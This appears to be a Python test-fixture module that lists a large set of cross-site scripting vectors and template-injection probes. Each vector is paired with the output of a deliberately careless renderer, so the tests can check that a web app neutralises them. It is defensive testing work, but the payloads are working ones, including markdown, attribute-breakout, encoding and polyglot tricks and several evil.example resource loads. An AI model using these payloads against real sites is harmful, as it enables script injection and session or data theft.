"""Texts that would run a script in a page that does not defend itself, each beside the place where it would.

RUN stands for a call that tells the test which text ran. `unguarded` is what a careless page makes of a text: the
proof that the text would run there, and that the test would notice.
"""

import re
import unicodedata
from base64 import b64encode
from collections.abc import Callable
from html import unescape
from urllib.parse import unquote

from markdown_it import MarkdownIt

OWN_PICTURE = "/media/pictures/" + "a" * 32 + "-8x6.png"
# What a template engine makes of the texts in TEMPLATES; it stands in none of them
EVALUATED = "1357924"
TEMPLATES = (
    "{{ 1000000|add:357924 }}",
    "{% widthratio 339481 1 4 %}",
    "{{1000000+357924}}",
    "${1000000+357924}",
    "#{1000000+357924}",
    "<%= 1000000+357924 %>",
)

_HTML = (
    "<script>RUN</script>",
    "<ScRiPt >RUN</sCrIpT >",
    "<script/x>RUN</script>",
    "<script src=data:text/javascript,RUN></script>",
    "<<script>RUN//<</script>",
    "<script>RUN",
    "<img src=x onerror=RUN>",
    '<img/src="x"/onerror=RUN>',
    '<IMG SRC=x OnErRoR="RUN">',
    '<img src="x"onerror="RUN">',
    "<img src=x onerror=&#114;&#x75;n(NUMBER)>",
    '<img src=x onerror="\\u0072un(NUMBER)">',
    "<img src=x:x onerror=RUN;//>",
    "<svg onload=RUN>",
    "<svg/onload=RUN>",
    "<svg><script>RUN</script></svg>",
    "<svg><script href=data:text/javascript,RUN></script></svg>",
    "<svg><animate onbegin=RUN attributeName=x dur=1s></svg>",
    '<svg><a xlink:href="javascript:RUN"><text y=9>press</text></a></svg>',
    '<svg></p><style><a id="</style><img src=x onerror=RUN>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">',
    '<math href="javascript:RUN">press</math>',
    '<noscript><p title="</noscript><img src=x onerror=RUN>">',
    "<details open ontoggle=RUN>x</details>",
    "<input autofocus onfocus=RUN>",
    "<video><source onerror=RUN></video>",
    "<audio src=x onerror=RUN></audio>",
    "<body onload=RUN>",
    "<xss id=x tabindex=1 onfocus=RUN>",
    "<p style=position:fixed;inset:0 onpointerenter=RUN>",
    '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
    "<iframe src=javascript:parent.RUN></iframe>",
    "<object data=javascript:RUN></object>",
    "<embed src=data:text/html,RUN>",
    "<form action=javascript:RUN><button>press</button></form>",
    "<button formaction=javascript:RUN>press</button>",
    "<base href=javascript:RUN//>",
    '<meta http-equiv=refresh content="9;url=javascript:RUN">',
    "<link rel=stylesheet href=//evil.example/RUN>",
    "<style>@import '//evil.example/RUN';</style>",
    '<div style="background:url(//evil.example/RUN)">x</div>',
    "<table background=//evil.example/RUN><tr><td>x</table>",
    '<a href="javascript:RUN">press</a>',
    '<a href="java&#x0A;script:RUN">press</a>',
    '<a href="&#106;avascript&colon;RUN">press</a>',
    '<a href=" &#14; JaVaScRiPt:RUN">press</a>',
    '<a href="vbscript:RUN">press</a>',
    '<a href="data:text/html,<script>RUN</script>">press</a>',
    '<a href="https://a.example/" onmouseover="RUN">press</a>',
    '<a href="tel:1"onmouseover=RUN>press</a>',
    "<b><i><u><s><blockquote><a href=javascript:RUN>unclosed",
)
_ADDRESSES = (
    "javascript:RUN",
    "JaVaScRiPt:RUN",
    "java\tscript:RUN",
    "\x01javascript:RUN",
    "javascript://a.example/%0aRUN",
    "vbscript:RUN",
    "data:text/html,<script>RUN</script>",
)
_MARKDOWN = (
    "[press](javascript:RUN)",
    "[press](JaVaScRiPt:RUN)",
    "[press](javascript&colon;RUN)",
    "[press](<JAVASCRIPT:RUN>)",
    "[press](\\javascript:RUN)",
    "[press](vbscript:RUN)",
    "[press](data:text/html;base64,BASE64)",
    "<javascript:RUN>",
    "<data:text/html,RUN>",
    "[press][vNUMBER]\n\n[vNUMBER]: javascript:RUN",
    "![x](https://evil.example/RUN.png)",
    "[<img src=x onerror=RUN>](https://a.example/)",
    "[![x](x)<svg/onload=RUN>](javascript:RUN)",
    "| a |\n| --- |\n| <img src=x onerror=RUN> |",
    "> - 1. <img src=x onerror=RUN>",
    "**<img src=x onerror=RUN>**",
)
_IN_QUOTES = (
    '" autofocus onfocus="RUN',
    '"><script>RUN</script>',
    '"><img src=x onerror=RUN>',
    '\\"><img src=x onerror=RUN>',
    f'![x" onerror="RUN]({OWN_PICTURE})',
    '[press](https://a.example/ "x\\" onmouseover=\\"RUN")',
    '[press](https://a.example/"onmouseover="RUN)',
    'https://a.example/"onmouseover="RUN',
    'https://a.example/?q="><img/src=y:/onerror=z onerror=RUN>',
    'me@a.example"onmouseover="RUN',
    '```"><script>RUN</script>\nx\n```',
    '!!! note "x\\"><img src=x onerror=RUN>"\n    Words.',
    '## A heading " onmouseover="RUN',
    '{{"><img src=x onerror=RUN>}}',
)
_IN_SCRIPTS = ('";RUN;//', '\\\\";RUN;//', "</script><script>RUN</script>", '"+RUN+"')


def _careless_markdown(text: str) -> str:
    parser = MarkdownIt("commonmark", {"html": True, "linkify": False}).enable("table")
    parser.validateLink = lambda _: True
    return parser.render(text.replace("\\j", "j"))


def _within(before: str, after: str) -> Callable[[str], str]:
    return lambda text: before + text + after


_GROUPS: tuple[tuple[Callable[[str], str], tuple[str, ...]], ...] = (
    (str, _HTML),
    (_careless_markdown, _MARKDOWN),
    (_within('<a href="', '">press</a>'), _ADDRESSES),
    (_within('<input value="', '">'), _IN_QUOTES),
    (_within("<input value='", "'>"), ("' autofocus onfocus='RUN", "'><svg/onload=RUN>")),
    (_within("<input value=", ">"), ("x autofocus onfocus=RUN", "`` autofocus onfocus=RUN")),
    (_within("<title>", "</title>"), ("</title><script>RUN</script>",)),
    (_within("<textarea>", "</textarea>"), ("</textarea><script>RUN</script>",)),
    (_within("<!--", "-->"), ("--><script>RUN</script>", "--!><img src=x onerror=RUN>")),
    (_within("<style>", "</style>"), ("</style><img src=x onerror=RUN>",)),
    (_within('<script>var x = "', '"</script>'), _IN_SCRIPTS),
    (_within("<script>var x = '", "'</script>"), ("';RUN;//", "\\\\';RUN;//")),
    (_within("<script>var x = `", "`</script>"), ("${RUN}",)),
    (_within("<script>// ", "</script>"), ("x\u2028RUN", "x\u2029RUN")),
    (unescape, ("&lt;img src=x onerror=RUN&gt;", "&#60;svg/onload=RUN&#x3e;")),
    (lambda text: unescape(unescape(text)), ("&amp;lt;img src=x onerror=RUN&amp;gt;",)),
    (unquote, ("%3Cimg%20src=x%20onerror=RUN%3E",)),
    (lambda text: unicodedata.normalize("NFKC", text), ("＜img src=x onerror=RUN＞", "﹤svg/onload=RUN﹥")),
    (
        lambda text: text.replace("\u200b", ""),
        ("<im\u200bg src=x onerror=RUN>", "[x](java\u200bscript:RUN)<svg onload=RUN>"),
    ),
    (lambda text: re.sub("</?script>", "", text), ("<scr<script>ipt>RUN</scr</script>ipt>",)),
)


def _numbered() -> list[tuple[str, str]]:
    found = []
    for careless, texts in _GROUPS:
        for text in texts:
            number = str(len(found))
            call = f"run({number})"
            encoded = b64encode(f"<script>{call}</script>".encode()).decode()
            filled = text.replace("RUN", call).replace("NUMBER", number).replace("BASE64", encoded)
            found.append((filled, careless(filled)))
    return found


_BOTH = _numbered()
VECTORS = [text for text, _ in _BOTH]
# By the number of the vector
UNGUARDED = [html for _, html in _BOTH]


def fitting(length: int) -> list[str]:
    """Return the vectors and templates that a box for one line of `length` characters takes."""
    return [text for text in (*VECTORS, *TEMPLATES) if len(text) <= length and "\n" not in text]


def packed(length: int) -> list[str]:
    """Return all vectors and templates in as few lines of at most `length` characters as hold them."""
    lines = [""]
    for text in (" ".join(each.split()) for each in (*VECTORS, *TEMPLATES)):
        if len(lines[-1]) + len(text) >= length:
            lines.append("")
        lines[-1] = f"{lines[-1]} {text}".strip()
    return lines


def polyglot(length: int, number: int) -> str:
    """Return one text of at most `length` characters that leaves most places where a text can stand."""
    ends = ("'\"--></style></title></textarea></script>", "'\"></title></script>", "'\">", "")
    call = f"<svg/onload=run({number})>"
    return next(end + call for end in ends if len(end + call) <= length)
